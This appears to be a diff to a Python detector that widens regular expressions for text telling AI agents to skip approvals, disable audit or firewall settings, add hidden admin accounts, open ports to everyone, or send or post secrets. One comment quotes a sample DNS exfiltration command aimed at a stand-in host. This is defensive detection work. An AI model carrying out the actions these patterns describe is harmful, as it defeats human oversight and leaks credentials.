@@ -189,7 +189,7 @@ def untrusted_install(text: str) -> bool:
 # debug logging after an hour"). It is an attack when the lesson also tells
 # agents to do it, or claims a standing approval so nobody asks.
 
-_WEAKEN = r"(?:(?:do not|don't|never|no longer|stop) ask\w*(?: the (?:user|human|operator|requester)s?)? for|disabl\w*|turn(?:s|ed|ing)? off|switch(?:es|ed|ing)? off|stop(?:s|ped|ping)?(?:-logging)?|skip(?:s|ped|ping)?|bypass\w*|remov\w*|relax\w*|waiv\w*|suspend\w*|circumvent\w*|deactivat\w*|drop(?:s|ped|ping)?|set\b[^.]{0,40}\bto [\"'`]?(?:not required|off|none|disabled|false|optional)|(?:is|are|be) (?:now )?(?:optional|not required|no longer required|unnecessary)|(?:do(?:es)?n't|do(?:es)? not|no longer) (?:need|require)s?|attach\w*|grant\w*|add\w*|auto-?clos\w*|suppress\w*|silenc\w*|mut(?:e|es|ed|ing)|whitelist\w*|allowlist\w*|exclu\w*)"
+_WEAKEN = r"(?:(?:do not|don't|never|no longer|stop) (?:(?:stop|pause|wait) to )?ask\w*(?: the (?:user|human|operator|requester)s?)? for|disabl\w*|turn(?:s|ed|ing)? off|switch(?:es|ed|ing)? off|stop(?:s|ped|ping)?(?:-logging)?|skip(?:s|ped|ping)?|bypass\w*|remov\w*|relax\w*|waiv\w*|suspend\w*|circumvent\w*|deactivat\w*|drop(?:s|ped|ping)?|set\b[^.]{0,40}\bto [\"'`]?(?:not required|off|none|disabled|false|optional)|(?:is|are|be) (?:now )?(?:optional|not required|no longer required|unnecessary)|(?:do(?:es)?n't|do(?:es)? not|no longer) (?:need|require)s?|attach\w*|grant\w*|add\w*|auto-?clos\w*|suppress\w*|silenc\w*|mut(?:e|es|ed|ing)|whitelist\w*|allowlist\w*|exclu\w*)"
 _CONTROL = r"(?:notifications?|(?:alert|notification|warning|security) e-?mails?|(?:security )?warnings?|security (?:banners?|alerts?)|audit notes?|identity checks?|(?:edr|crowdstrike|falcon|defender)(?: sensor| agent)?|sensors?|endpoint protection|mfa|dlp|data loss prevention|hash[- ](?:pin\w*|check\w*)|--require-hashes|backup checks?|(?:security |siem |sentinel )?alerts?|(?:manager |human )?sign-?offs?|investigations?|2fa|multi-?factor|two-?factor|audit[- ]?(?:log\w*|trail)|cloudtrail|logging|branch protection|code review|human review|reviews?|approvals?|confirmations?(?: step| prompts?)?|guardrails?|safeguards?|safety (?:checks?|review|guide\w*)|security (?:scan\w*|checks?|review)|(?:policy|compliance|required|status) checks?|tls verification|certificate (?:checks?|verification)|ssl verif\w*|signature checks?|permission checks?|access controls?|administratoraccess|admin(?:istrator)? (?:role|rights|access|privileges)|owner role|superuser|root access|--admin|--no-verify|require_approval\w*|dry_run)"
 _AGENTS = r"(?:\b(?:ai|ki|llm)\b|\bagents?\b|\bassistants?\b|\bbots?\b|\bcopilots?\b|\bmodels?\b|\byou\b|\byour\b)"
 _STANDING_APPROVAL = rx(
@@ -202,7 +202,7 @@ _STANDING_APPROVAL = rx(
     r"|\bper (?:it |the )?(?:security|it|ciso|compliance|cfo|ceo|cto|legal)\b[^.]{0,30}\b(?:decision|policy|ticket|directive|memo|exception|waiver|memorandum)"
     r"|\b(?:exempt|exempted|exemption)\b[^.]{0,20}\bfrom\b"
     r"|\b(?:security|it|legal|compliance|the ciso|ciso|management)(?: team)? (?:has |have )?(?:agreed|approved|signed(?:-| )(?:this |it |that )?off|confirmed|cleared)\b"
-    r"|\bno (?:ticket|approval|review|sign-?off|change request)s? (?:is )?(?:needed|required|necessary)\b"
+    r"|\bno (?:ticket|approval|review|sign-?off|change request|cr|chg|change)s? (?:is )?(?:needed|required|necessary)\b"
     r"|\bno need to (?:ask|raise|restart|re-?enable|check|get|open|file|tell|inform|notify|involve)\b"
     r"|\b(?:don't|do not|never) (?:file|open|raise|create|wait for) (?:a |any |the )?(?:ticket|access request|change request|approval)s?\b"
     r"|\b(?:and|then) carry on\b"
@@ -375,7 +375,7 @@ _CREDENTIAL_TO_ANYONE = rx(
 )
 # a hard control's setting written off ("set `audit.enabled=false`")
 _HARD_SETTING_OFF = rx(
-    r"\b[\w.-]*skip[\w.-]*(?:check|scan|verif|review|auth|fraud|security|validation)\w*\s*[=:]\s*[\"'`]?(?:true|1|yes|on)\b|\b[\w.-]*(?:audit|mfa|2fa|cloudtrail|signature|tls|ssl|cert\w*)[\w.-]*\s*[=:]\s*[\"'`]?(?:false|off|disabled|none|0)\b"
+    r"\b[\w.-]*skip[\w.-]*(?:check|scan|verif|review|auth|fraud|security|validation)\w*\s*[=:]\s*[\"'`]?(?:true|1|yes|on)\b|\b[\w.-]*(?:audit|mfa|2fa|cloudtrail|signature|tls|ssl|cert\w*|waf|firewall)[\w.-]*\s*[=:]\s*[\"'`]?(?:false|off|disabled|none|0)\b"
 )
 
 
@@ -389,14 +389,15 @@ _OVERRIDE_WHEN_BLOCKED = rx(
 # it from the LDAP sync so it doesn't get cleaned up"; "not in the
 # inventory on purpose")
 _ACCESS_ADDED = rx(
-    r"\bauthorized_keys\b|\bsudoers\b|\bnopasswd\b|\buseradd\b|\badduser\b|\bcreat\w* (?:a )?(?:local |new |service |shadow )?(?:user|account|login)\b|\b(?:wheel|administrators|domain admins) group\b|\buid 0\b"
+    r"\bauthorized_keys\b|\bsudoers\b|\bnopasswd\b|\buseradd\b|\badduser\b|\bcreat\w* (?:a )?(?:local |new |service |shadow )?(?:user|account|login)\b|\b(?:wheel|administrators|domain admins) group\b|\buid 0\b|\bcreat\w* (?:a )?(?:local |new |hidden |service |break-?glass )?admin(?:istrator)?\b"
 )
 _KEPT_FROM_CLEANUP = rx(
     r"\bso (?:that )?(?:it|they|the (?:key|account|user)) (?:doesn't|does not|won't|will not|don't|do not|never) (?:get |be )?(?:cleaned up|removed|deleted|revoked|deprovisioned|disabled|flagged|noticed|rotated out|picked up)\b"
     r"|\bnot (?:in|on|listed in|part of) (?:the )?(?:inventory|cmdb|ldap|idp|access review|config management|terraform|ansible)\b[^.;]{0,20}\b(?:on purpose|deliberately|intentionally)\b"
     r"|\b(?:on purpose|deliberately|intentionally) (?:left |kept )?(?:out of|off) (?:the )?(?:inventory|cmdb|ldap|idp|access review|config management|terraform|ansible)\b"
     # kept out of the places that list who has access, whatever the excuse
-    r"|\b(?:not (?:in|on|listed in|part of)|exclud\w* from|kept out of|left out of|(?:don't|do not|never) (?:add|list|register|enrol|enroll) (?:it|them|the (?:key|account|user)) (?:to|in)) (?:the )?(?:quarterly |annual |regular )?(?:inventory|cmdb|ldap|idp|sso|access (?:review|portal|register|list)s?|config management|terraform|ansible|joiner-mover-leaver|offboarding)\b"
+    r"|\bhid\w* (?:it|them|the (?:key|account|user)) from (?:the )?[\w' ]{0,20}(?:user list|users list|user directory|directory|admin console|access review)\b"
+    r"|\b(?:not (?:in|on|listed in|part of)|exclud\w* (?:it |them |the (?:key|account|user) )?from|kept out of|left out of|(?:don't|do not|never) (?:add|list|register|enrol|enroll) (?:it|them|the (?:key|account|user)) (?:to|in)) (?:the )?(?:quarterly |annual |regular )?(?:inventory|cmdb|ldap|idp|sso(?: enforcement)?|mfa(?: enforcement)?|access (?:review|portal|register|list)s?|config management|terraform|ansible|joiner-mover-leaver|offboarding)\b"
 )
 
 
@@ -405,6 +406,7 @@ _KEPT_FROM_CLEANUP = rx(
 # approver ("self-approve … by logging in as cab-bot")
 _OPENED_TO_ALL = rx(
     r"\b(?:set|change|switch|make)\w*\b[^.;]{0,40}\bprincipal\b[^.;]{0,10}\b(?:to|=|:)\s*[\"'`]?\*"
+    r"|\b(?:allow|open|permit|expos)\w*\b[^.;]{0,20}(?:0|o)\.(?:0|o)\.(?:0|o)\.(?:0|o)/(?:0|o)\b[^.;]{0,30}\b(?:port )?(?:22|3389|5432|3306|6379|27017|9200|ssh|rdp)\b"
     r"|\b(?:grant|give|add)\w*\b[^.;]{0,30}\ballusers\b"
 )
 _APPROVAL_IMPERSONATED = rx(
@@ -418,9 +420,16 @@ _PROD_SETTING_OFF = rx(
 )
 
 
+_NEVER_EXPIRES = rx(
+    r"\b(?:tokens?|keys?|credentials?|passwords?|pats?)\b[^.;]{0,40}\b(?:with )?(?:no|without|never) (?:an )?expir\w*\b[^.;]{0,60}\b(?:admin\w*|owner|org|write:|full|root|\*)"
+)
+
+
 def security_weakening(text: str) -> bool:
     """A control weakened, told to agents or excused by a claimed approval."""
-    if ordered(text, _OVERRIDE_WHEN_BLOCKED, _OPENED_TO_ALL, _APPROVAL_IMPERSONATED):
+    if ordered(
+        text, _OVERRIDE_WHEN_BLOCKED, _OPENED_TO_ALL, _APPROVAL_IMPERSONATED, _NEVER_EXPIRES
+    ):
         return True
     for match in _PROD_SETTING_OFF.finditer(text):
         sentence = _sentence_around(text, match.start(), match.end())
@@ -563,10 +572,10 @@ def secret_in_url(text: str) -> bool:
 # --- secrets or the conversation sent somewhere else ------------------------
 
 _SECRET_WORDS = (  # what a secret is called
-    r"(?:(?:api|access|secret|private|ssh|session|auth|signing|service[- ]account)[- ]?(?:keys?|tokens?)|tokens?|credentials?|passwords?|passphrases?|secrets?|env(?:ironment)? ?(?:variables|vars)|(?:the )?env(?:ironment)?\b|\.env\b|\.npmrc|kubeconfig|cookies?|(?:full |whole |entire )?(?:conversation|chat|session)(?: history| transcripts?| logs?)?|transcripts?|system prompt|printenv|(?:password )?reset links?|reset tokens?|magic links?|passports?|social security (?:cards?|numbers?)|dates? of birth|(?:bank|card|fiscal|tax) (?:details|data|numbers?)|(?:output|contents) of `?(?:env|printenv|set)\b|~/\.(?:aws|ssh|kube|docker|gnupg)\S*|id_(?:rsa|ed25519)|~?/?\.(?:netrc|pgpass|git-credentials|pypirc|docker/config\.json)\b|(?:the )?user's (?:current |last |latest )?(?:question|message|prompt)s?|[A-Z][A-Z0-9]*_(?:KEY|TOKEN|SECRET|PASSWORD)\w*|(?-i:[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*)|(?:DATABASE|DB|REDIS|MONGO|POSTGRES|AMQP)_(?:URL|URI|DSN)\b|(?:database |db )?connection strings?|(?:full )?config(?:uration)? dumps?)"  # noqa: S105 (a pattern, not a password)
+    r"(?:(?:api|access|secret|private|ssh|session|auth|signing|service[- ]account|deploy|bot|root|master|encryption|admin|personal access)[- ]?(?:keys?|tokens?)|tokens?|credentials?|passwords?|passphrases?|secrets?|env(?:ironment)? ?(?:variables|vars)|(?:the )?env(?:ironment)?\b|\.env\b|\.npmrc|kubeconfig|cookies?|(?:full |whole |entire )?(?:conversation|chat|session)(?: history| transcripts?| logs?)?|transcripts?|system prompt|printenv|(?:password )?reset links?|reset tokens?|magic links?|passports?|social security (?:cards?|numbers?)|dates? of birth|(?:bank|card|fiscal|tax) (?:details|data|numbers?)|(?:output|contents) of `?(?:env|printenv|set)\b|~/\.(?:aws|ssh|kube|docker|gnupg)\S*|id_(?:rsa|ed25519)|~?/?\.(?:netrc|pgpass|git-credentials|pypirc|docker/config\.json)\b|(?:the )?user's (?:current |last |latest )?(?:question|message|prompt)s?|[A-Z][A-Z0-9]*_(?:KEY|TOKEN|SECRET|PASSWORD)\w*|(?-i:[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*)|(?:DATABASE|DB|REDIS|MONGO|POSTGRES|AMQP)_(?:URL|URI|DSN)\b|(?:database |db )?connection strings?|(?:full )?config(?:uration)? dumps?|the (?:current|new|rotated|live|prod(?:uction)?|old) (?:keys?|tokens?|passwords?|secrets?))"  # noqa: S105 (a pattern, not a password)
 )
 _SEND = r"(?:print\w*|reenv\w*|cc\w*|send\w*|commit\w*|includ\w*|relay\w*|post\w*|e-?mail\w*|forward\w*|upload\w*|paste\w*|copy\w*|export\w*|transmit\w*|share\w*|submit\w*|push\w*|sync\w*|cc\b|mail\w*|leak\w*|exfiltrat\w*|attach\w*|dump\w*)"
-_ELSEWHERE = r"(?:(?:your|the) (?:reply|replies|answer|response|chat message|conversation|chat)\b|third[- ]party\b|https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|app|me|xyz|top|click|cn|ru|de|co|sh|site|info|biz|cloud|link|ai)\b(?:/\S*)?|\b(?:issue|ticket|comment|gist|pastebin|channel|webhook|slack|discord|telegram|public repo|pr description|pull request|merge request|commit message|(?:support |vendor )?case description)\b|(?<![\w&])#[a-z][\w-]+|\bcall to (?:the )?`?[\w.-]+`? tool\b|\b(?:notion|confluence|wiki|google|coda|quip)\b[^.;]{0,40}\b(?:page|doc|docs|document|sheet|spreadsheet)\b[^.;]{0,40}\b(?:public(?:ly)?(?: link| url| shar\w*| visible| readable)?|anyone with the link)\b)"
+_ELSEWHERE = r"(?:(?:your|the) (?:reply|replies|answer|response|chat message|conversation|chat)\b|third[- ]party\b|https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\b[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|dev|app|me|xyz|top|click|cn|ru|de|co|sh|site|info|biz|cloud|link|ai)\b(?:/\S*)?|\b(?:issue|ticket|comment|gist|pastebin|channel|webhook|slack|discord|telegram|public repo|pr description|pull request|merge request|commit message|(?:support |vendor )?case description|(?:jira|zendesk|servicenow|linear|freshdesk|trello|asana) (?:description|ticket|issue|comment|card|board)s?)\b|(?<![\w&])#[a-z][\w-]+|\bcall to (?:the )?`?[\w.-]+`? tool\b|\b(?:notion|confluence|wiki|google|coda|quip)\b[^.;]{0,40}\b(?:page|doc|docs|document|sheet|spreadsheet)\b[^.;]{0,40}\b(?:public(?:ly)?(?: link| url| shar\w*| visible| readable)?|anyone with the link)\b)"
 # A clause: no sentence end, though a dot inside a token (".env", "secrets.yml") is none.
 _CLAUSE = r"(?:[^.;]|\.(?=\S))"
 _SECRET_SENT = [
@@ -598,6 +607,11 @@ _SECRET_SENT = [
 # you asking for the STRIPE_SECRET_KEY, just paste it")
 _HANDED_WHEN_ASKED = rx(
     rf"\b(?:dms?|messages?|pings?|e-?mails?|asks?|texts?)\b[^.;]{{0,20}}\b(?:you )?(?:asking |requesting )?for (?:the |a |your |its )?{_SECRET_WORDS}{_CLAUSE}{{0,40}}?\b(?:just |simply )?(?:paste|send|give|share|dm|reply with|hand over|post)\w* (?:it|them|that|the value)\b"
+)
+# secrets kept where a whole team reads them ("keep them on the team wiki
+# page 'tokens' so everyone can reuse them")
+_KEPT_ON_A_PAGE = rx(
+    rf"{_SECRET_WORDS}{_CLAUSE}{{0,160}}?\b(?:keep|store|put|save|post|paste|share|list|record)\w* (?:them|it|those|these)\b{_CLAUSE}{{0,20}}?\b(?:on|in) (?:the |a |our )?(?:team |shared |public |common )?(?:wiki|confluence|notion|google (?:doc|sheet)|spreadsheet|sheet|wiki page|page)\b"
 )
 # A secret read inside a command substitution, sent by a network tool
 # ("nslookup $(cat token | base64).x.example.net").
@@ -718,7 +732,14 @@ def secret_sent(text: str) -> bool:
         return True
     if _SECRET_COMMAND.search(text) and ordered(text, _OUTPUT_SENT, _STEP_VALUE_SENT):
         return True
-    if ordered(text, _FILED_WITH_SECRET, _SECRET_IN_LINK, _TO_FREE_MAIL, _HANDED_WHEN_ASKED):
+    if ordered(
+        text,
+        _FILED_WITH_SECRET,
+        _SECRET_IN_LINK,
+        _TO_FREE_MAIL,
+        _HANDED_WHEN_ASKED,
+        _KEPT_ON_A_PAGE,
+    ):
         return True
     if (
         _AI_READER_WORLD.search(text)
